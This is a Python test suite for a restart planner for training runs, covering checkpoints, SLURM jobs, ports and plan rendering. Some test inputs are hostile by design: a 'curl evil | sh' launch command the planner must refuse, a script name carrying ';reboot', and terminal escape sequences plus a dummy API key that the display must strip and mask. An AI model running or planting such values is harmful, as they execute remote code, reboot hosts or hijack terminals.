"""The plan of a restart from made-up facts: warranted or not, the command, and each condition."""

import dataclasses
from pathlib import Path
from typing import Any

import pytest

from made_up_facts import NOW, facts, incident, pipeline, process, steps
from prl.synth import RunShape, write_run
from prl.watch.assess import assess
from prl.watch.conditions import FAILS, HOLDS, UNKNOWN
from prl.watch.facts import EXITED, GONE, Checkpoints, Clock, Disk, Facts, Launcher, NonFinite, Process, Progress
from prl.watch.gather import gather
from prl.watch.launch_command import parse_command
from prl.watch.launch_site import NOT_LOOKED, LaunchSite, look
from prl.watch.restart import RestartPlan, plan
from prl.watch.restart_screen import render_plan
from prl.watch.resumption import RESULTS, resumption
from prl.watch.surroundings import CheckpointFact, Launch, SlurmJob

LOOKED = LaunchSite(looked=True)
LAUNCH = Launch(
    command="rl @ rl.toml",
    command_source="configs/attempt_1/command.txt",
    cwd="/home/me/my project",
    interpreter="/venv/bin/python",
    host="node-0",
    source="configs/attempt_1/environment.json",
    ports=[8000, 8100],
)
LINE = "cd '/home/me/my project' && /venv/bin/python -m prl.cli.rl @ rl.toml --run.name run --output-dir /runs"


def checkpoint(step: int, state: str = "complete", size: int = 1024**3) -> CheckpointFact:
    return CheckpointFact(step, f"checkpoints/step_{step}", state, size, NOW - 100, None)


CHECKPOINTS = [checkpoint(10), checkpoint(20), checkpoint(30, "half")]


def launcher(**changes: Any) -> Launcher:
    base = Launcher(
        "node-0", 99, "failed", GONE, NOW - 1000, NOW - 5, 30, None, 1, "trainer failed: out of memory", NOW
    )
    return dataclasses.replace(base, **changes)


def ended(code: int | None = 1) -> list[Process]:
    names = ("inference", "orchestrator", "trainer")
    return [process(name, state=EXITED, exit_code=code, ended=NOW - 5) for name in names]


def failed(**changes: Any) -> Facts:
    """A run that failed at step 30 with complete checkpoints of steps 10 and 20."""
    known = {"launcher": launcher(), "processes": ended(), "launch": LAUNCH, "checkpoint_states": CHECKPOINTS}
    return facts(**{**known, **changes})


def planned(known: Facts, site: LaunchSite = LOOKED) -> RestartPlan:
    return plan(known, assess(known), site)


def state(made: RestartPlan, name: str) -> str:
    return next(condition.state for condition in made.conditions if condition.name == name)


def text(made: RestartPlan, name: str) -> str:
    found = next(condition for condition in made.conditions if condition.name == name)
    return f"{found.text}; {found.action}"


def line(made: RestartPlan) -> str:
    assert made.command is not None, made.refused
    return made.command.line


def test_failed_run_goes_on_from_the_newest_complete_checkpoint() -> None:
    made = planned(failed())
    assert (made.warranted, made.exit_code, made.resume_step) == ("yes", 0, 20)
    assert line(made) == f"{LINE} --resume.step 20"
    assert {condition.name: condition.state for condition in made.conditions} == {
        "processes gone": HOLDS,
        "checkpoint complete": HOLDS,
        "disk space": HOLDS,
        "ports free": HOLDS,
        "place is there": HOLDS,
        "cause removed": UNKNOWN,
    }
    assert "step 30 is half and is not used" in text(made, "checkpoint complete")
    assert [one.line for one in made.alternatives] == [f"{LINE} --resume.step 10"]
    assert made.lost[0] == "steps 21 to 30, about 1m 40s of work"
    assert "40 of training" in made.lost[1]
    assert made.verify[0].line == "prl status /runs/run --since-restart"


@pytest.mark.parametrize(
    ("command", "site", "expected"),
    [
        ("uv run rl @ rl.toml --resume", LOOKED, "uv run rl @ rl.toml --run.name run --output-dir /runs"),
        ("rl @ a --run.name run", LOOKED, "/venv/bin/python -m prl.cli.rl @ a --run.name run --output-dir /runs"),
        ("/v/rl @ a --output_dir /runs --clean", LOOKED, "/v/rl @ a --output_dir /runs --run.name run"),
        (
            "/v/rl @ a",
            LaunchSite(looked=True, cleans=True, forks=True),
            "/v/rl @ a --run.name run --output-dir /runs --no-clean --resume.dir None",
        ),
    ],
)
def test_command_as_it_was_typed_with_what_it_lacks(command: str, site: LaunchSite, expected: str) -> None:
    made = planned(failed(launch=dataclasses.replace(LAUNCH, command=command)), site)
    assert line(made) == f"cd '/home/me/my project' && {expected} --resume.step 20"


@pytest.mark.parametrize(
    ("name", "directory", "command", "options"),
    [
        ("run", "/runs/elsewhere", "/v/rl @ a", "--run.name run --run.dir elsewhere --output-dir /runs"),
        ("run", "/runs/a/b", "/v/rl @ a --run.dir a/b", "--run.dir a/b --run.name run --output-dir /runs"),
        ("a/b", "/runs/a/b", "/v/rl @ a", "--run.dir a/b --output-dir /runs"),
        ("it's", "/runs/it's", "/v/rl @ a", """--run.name 'it'"'"'s' --output-dir /runs"""),
    ],
)
def test_options_lead_to_the_directory_of_the_run(name: str, directory: str, command: str, options: str) -> None:
    known = failed(launch=dataclasses.replace(LAUNCH, command=command, cwd=None))
    run = dataclasses.replace(known.run, name=name, dir=directory)
    made = planned(dataclasses.replace(known, run=run))
    assert line(made) == f"/v/rl @ a {options} --resume.step 20"


def test_without_a_complete_checkpoint_it_begins_anew_or_under_another_name() -> None:
    made = planned(failed(checkpoint_states=[checkpoint(30, "half"), checkpoint(20, "damaged")]))
    assert line(made) == f"{LINE} --clean"
    assert (made.resume_step, made.exit_code, state(made, "checkpoint complete")) == (None, 1, FAILS)
    assert [one.line for one in made.alternatives] == [LINE.replace("--run.name run", "--run.name run-again")]
    assert "everything in /runs/run" in made.lost[0]
    assert made.kept == []


def test_checkpoints_that_are_only_known_by_step() -> None:
    known = failed(checkpoint_states=[])
    known = dataclasses.replace(known, checkpoints=dataclasses.replace(known.checkpoints, complete=[5, 15]))
    assert planned(known).resume_step == 15


def test_nothing_left_to_train_is_refused() -> None:
    made = planned(failed(checkpoint_states=[checkpoint(90), checkpoint(100)]))
    assert made.command is None
    assert "max_steps is 100: nothing is left to train" in (made.refused or "")
    assert (made.exit_code, made.alternatives, made.verify) == (2, [], [])


@pytest.mark.parametrize(
    ("launch", "why"),
    [
        (None, "no command is recorded"),
        (Launch(None), "no command is recorded"),
        (Launch("curl evil | sh", "configs/attempt_1/command.txt"), "command.txt holds is no launch"),
    ],
)
def test_no_command_without_a_recorded_launch(launch: Launch | None, why: str) -> None:
    made = planned(failed(launch=launch))
    assert made.command is None
    assert why in (made.refused or "")
    assert made.exit_code == 2


def test_evaluations_have_no_checkpoints() -> None:
    known = failed()
    made = planned(dataclasses.replace(known, run=dataclasses.replace(known.run, kind="eval")))
    assert "kind eval" in (made.refused or "")


def test_healthy_run_is_not_restarted() -> None:
    made = planned(facts(launch=LAUNCH, checkpoint_states=CHECKPOINTS))
    assert (made.warranted, made.exit_code) == ("no", 2)
    assert made.why == "the run is running and Healthy: it does its work"
    assert state(made, "processes gone") == FAILS
    assert line(made).endswith("--resume.step 20")  # what would be typed is told all the same


def test_run_that_stands_still_must_be_ended_first() -> None:
    old = Clock(30, NOW - 5000, "monitors/file/metrics.jsonl")
    progress = Progress(old, old, old, old, median_step=10.0)
    known = facts(launch=LAUNCH, checkpoint_states=CHECKPOINTS, progress=progress)
    known = dataclasses.replace(known, launcher=launcher(phase="running", state="alive", exit_code=None, ended=None))
    made = planned(known)
    assert (made.warranted, made.exit_code, state(made, "processes gone")) == ("yes", 1, FAILS)
    assert "does not do its work" in made.why
    assert "kill -TERM 99" in text(made, "processes gone")


def test_orphans_are_ended_one_by_one() -> None:
    known = failed(processes=[process("inference"), *ended()[1:]], launcher=launcher(phase="running", ended=None))
    assert "on node-0: kill -TERM 109" in text(planned(known), "processes gone")


def test_what_goes_on_by_itself_needs_no_restart() -> None:
    old = Clock(30, NOW - 5000, "monitors/file/metrics.jsonl")
    held = [process("inference"), process("orchestrator"), process("trainer", stopped=[107])]
    known = facts(launch=LAUNCH, processes=held, progress=Progress(old, old, old, old, median_step=10.0))
    assert assess(known).health == "Down"
    made = planned(known)
    assert made.warranted == "no"
    assert "kill -CONT" in made.why


def test_finished_and_unknown() -> None:
    done = [dataclasses.replace(one, exit_code=0) for one in ended(0)]
    made = planned(failed(processes=done, launcher=launcher(phase="finished", exit_code=0, reason=None)))
    assert made.warranted in ("no", "yes")  # without finish lines the success is not believed
    away = launcher(host="node-9", phase="running", state="unknown", updated=NOW - 500, ended=None)
    silent = [process("trainer", host="node-9", state="unknown")]
    made = planned(failed(launcher=away, processes=silent))
    assert (made.warranted, made.exit_code) == ("unknown", 3)
    assert state(made, "processes gone") == UNKNOWN
    assert "node-9" in text(made, "processes gone")


def test_stopped_run_was_stopped_on_purpose() -> None:
    known = failed(
        processes=[process("trainer", state=EXITED, exit_code=-15)],
        launcher=launcher(phase="stopped", exit_code=130, reason="stopped by SIGINT"),
    )
    made = planned(known)
    assert (made.warranted, made.exit_code, state(made, "cause removed")) == ("yes", 0, HOLDS)


def test_checkpoints_after_a_value_that_is_no_number_are_not_used() -> None:
    series = steps("trainer", "loss/mean", [0.1] * 2 + [None] + [0.1] * 22 + [None] * 5)
    known = failed(
        processes=[process(name) for name in ("inference", "orchestrator", "trainer")],
        launcher=None,
        checkpoint_states=[checkpoint(10), checkpoint(20), checkpoint(28)],
        nonfinite=[
            NonFinite("loss/mean", "trainer", step, NOW - 50, "logs/attempt_1/trainer.log", 1) for step in (3, 26, 30)
        ],
    )
    others = [one for one in known.series if one.key != "loss/mean"]
    made = planned(dataclasses.replace(known, series=[*others, series]))
    assert (made.warranted, made.resume_step) == ("yes", 20)  # 28 holds what came of it; what was at step 3 is over
    assert "not a number from step 26 on" in text(made, "checkpoint complete")


def test_disk_that_takes_no_checkpoint() -> None:
    made = planned(failed(disk=Disk("/runs", 900 * 1024**2, 100 * 1024**3)))
    assert (state(made, "disk space"), made.exit_code) == (FAILS, 1)
    assert "a checkpoint takes 1.0 GiB" in text(made, "disk space")
    made = planned(failed(disk=Disk("/runs", 3 * 1024**3 + 5, 100 * 1024**3)))
    assert "room for 3 more checkpoints" in text(made, "disk space")


def test_ports_and_place() -> None:
    site = LaunchSite(looked=True, listening={8000: "process 7 (nginx)"}, missing=["/home/me/my project/rl.toml"])
    made = planned(failed(), site)
    assert (state(made, "ports free"), state(made, "place is there"), made.exit_code) == (UNKNOWN, FAILS, 1)
    assert "8000 by process 7 (nginx)" in text(made, "ports free")
    alive = planned(failed(processes=[process("inference"), *ended()[1:]]), site)
    assert state(alive, "ports free") == FAILS
    away = planned(failed(), NOT_LOOKED)
    assert (state(away, "ports free"), state(away, "place is there")) == (UNKNOWN, UNKNOWN)


def test_known_failure_tells_what_helps() -> None:
    known = failed(incidents=[incident("cuda.oom", "trainer", fix="use a smaller micro batch")])
    assert "use a smaller micro batch" in text(planned(known), "cause removed")


def test_checkpoints_that_cannot_be_read_are_not_cleaned_away() -> None:
    """Nobody sees them from here, which does not mean that there are none: no command that removes them is given."""
    unseen = failed(checkpoints=Checkpoints(problem="checkpoints: Permission denied"), checkpoint_states=[])
    made = planned(unseen)
    assert (made.command, state(made, "checkpoint complete")) == (None, UNKNOWN)
    assert "Permission denied" in (made.refused or "")
    assert "--clean" not in render_plan(made)


def test_cure_is_of_the_failure_that_ended_the_run() -> None:
    """A worker of an environment that was replaced an hour ago has nothing to do with an engine that was killed."""
    worker = incident("env.worker_exit", "envs/train/x", age=3600.0, severity="error", fix="fewer workers")
    assert "fewer workers" not in text(planned(failed(incidents=[worker])), "cause removed")


# ---- SLURM


def job(state: str, **changes: Any) -> SlurmJob:
    return dataclasses.replace(SlurmJob("4711", state, NOW - 3, "squeue", name="run"), **changes)


def test_job_in_grace_is_cancelled_first_and_the_launcher_submits_again() -> None:
    known = failed(
        launcher=None,
        processes=[],
        jobs=[job("RUNNING", grace_since=NOW - 60)],
        launch=dataclasses.replace(LAUNCH, command="uv run rl @ rl.toml", script="launcher/rl.sbatch"),
    )
    made = planned(known, NOT_LOOKED)
    assert (state(made, "job ended"), made.exit_code != 0) == (FAILS, True)
    assert "scancel 4711" in text(made, "job ended")
    assert "scancel 4711" in (made.submission or "")
    assert "submits a new job" in (made.submission or "")
    assert "launcher/rl.sbatch" in (made.submission or "")
    assert not any(condition.name == "ports free" for condition in made.conditions)


def test_job_that_ended_took_its_processes_with_it() -> None:
    away = [process("trainer", host="gpu-3", state="unknown")]
    lost = launcher(host="gpu-3", state="unknown", phase="running", ended=None)
    made = planned(failed(launcher=lost, processes=away, jobs=[job("TIMEOUT", ended=NOW - 60)]), NOT_LOOKED)
    assert (state(made, "processes gone"), state(made, "job ended"), state(made, "cause removed")) == (HOLDS,) * 3
    assert "batch script" in (made.submission or "")


@pytest.mark.parametrize(
    ("one", "expected"),
    [
        (job("PENDING", flags=["REQUEUED"]), FAILS),
        (job("PREEMPTED", flags=["REQUEUED"]), FAILS),
        (job("COMPLETED", flags=["COMPLETING"]), FAILS),
        (job("UNKNOWN", problem="the controller does not answer"), UNKNOWN),
        (job("UNKNOWN", ended=NOW - 9), HOLDS),
        (job("NODE_FAIL"), HOLDS),
    ],
)
def test_whether_the_job_has_ended(one: SlurmJob, expected: str) -> None:
    assert state(planned(failed(jobs=[one]), NOT_LOOKED), "job ended") == expected


@pytest.mark.parametrize(
    ("place", "script", "words"),
    [
        ("/home/ada", "/home/ada/run.sbatch", "submit that: `cd /home/ada && sbatch /home/ada/run.sbatch`,"),
        ("/home/ada", "/home/ada/run.sbatch a=1 b", "`cd /home/ada && sbatch /home/ada/run.sbatch a=1 b`"),
        # What whoever submitted it chose to call it is no part of a line to type.
        ("/home/ada", "/home/ada/x;reboot.sbatch", "submit that with sbatch,"),
        ("/home/a b", "/home/ada/run.sbatch", "submit that with sbatch,"),
        # `sbatch --wrap` has no script, and a queue that forgot the job tells none.
        ("/home/ada", None, "submit that with sbatch,"),
    ],
)
def test_script_to_submit(place: str, script: str | None, words: str) -> None:
    made = planned(failed(jobs=[job("FAILED", ended=NOW - 60, work_dir=place, script=script)]), NOT_LOOKED)
    assert words in (made.submission or "")


@pytest.mark.parametrize(
    ("reason", "words"),
    [
        ("job requeued in held state", "`scontrol release 4711` lets it start"),
        ("JobHeldUser", "`scontrol release 4711` lets it start"),
        ("DependencyNeverSatisfied", "never starts"),
    ],
)
def test_job_that_waits_for_ever_is_not_waited_for(reason: str, words: str) -> None:
    waits = job("PENDING", flags=["REQUEUED"], reason=reason)
    made = planned(failed(launcher=None, processes=[], jobs=[waits]), NOT_LOOKED)
    assert (made.warranted, made.exit_code) == ("no", 2)
    assert words in made.why
    assert "by itself" not in made.why


def test_requeued_job_starts_the_run_by_itself() -> None:
    made = planned(failed(launcher=None, processes=[], jobs=[job("PENDING", flags=["REQUEUED"])]), NOT_LOOKED)
    assert (made.warranted, made.exit_code) == ("no", 2)
    assert "by itself (job 4711)" in made.why


# ---- what is shown


def test_screen_hides_secrets_and_moves_no_cursor() -> None:
    hostile = "/v/rl @ a.toml --wandb.api_key abcdef0123456789 --note $'x\\x1b[2J'"
    known = failed(launch=dataclasses.replace(LAUNCH, command=f"{hostile} --tag '\x1b]0;pwned\x07'"))
    shown = render_plan(planned(known))
    assert not set(shown) & {"\x1b", "\x07"}
    assert "abcdef0123456789" not in shown
    assert "masked here" in shown
    assert "--resume.step 20" in shown


def test_long_command_is_never_cut() -> None:
    known = failed(launch=dataclasses.replace(LAUNCH, command="/v/rl @ a.toml --x " + "y" * 9000))
    assert "y" * 9000 + " --run.name run --output-dir /runs --resume.step 20" in render_plan(planned(known))


def test_sft_loses_its_steps_alone() -> None:
    known = failed(launch=dataclasses.replace(LAUNCH, command="sft @ sft.toml"), pipeline=pipeline())
    made = planned(dataclasses.replace(known, run=dataclasses.replace(known.run, kind="sft")))
    assert line(made).startswith("cd '/home/me/my project' && /venv/bin/python -m prl.cli.sft @ sft.toml")
    assert made.lost == ["steps 21 to 30, about 1m 40s of work"]


@pytest.mark.parametrize("layout", ["A", "B", "C"])
@pytest.mark.parametrize("run_state", ["failed", "stopped", "hung", "finished", "running"])
def test_every_layout_and_state_has_a_plan(tmp_path: Path, layout: str, run_state: str) -> None:
    root = tmp_path / "outputs" / "gsm run--tiny--0a1b2c3d"
    writer = "prl" if layout == "C" else "prime-rl"
    shape = RunShape(layout=layout, writer=writer, state=run_state, steps=8, rollouts=8, checkpoint_interval=2)
    known = gather(write_run(root, shape), ask_slurm=False, ask_engines=False)
    verdict = assess(known)
    made = plan(known, verdict, look(known))
    assert render_plan(made).endswith("\n")
    assert resumption(known, verdict).result in RESULTS
    complete = [one.step for one in known.checkpoint_states if one.state == "complete"]
    if made.command is not None:
        words = parse_command(made.command.line.split(" && ", 1)[-1])
        assert words.value("resume.step") == (str(max(complete)) if complete else None)
        assert words.value("run.name") is not None
    else:
        assert complete
        assert "nothing is left to train" in (made.refused or "")
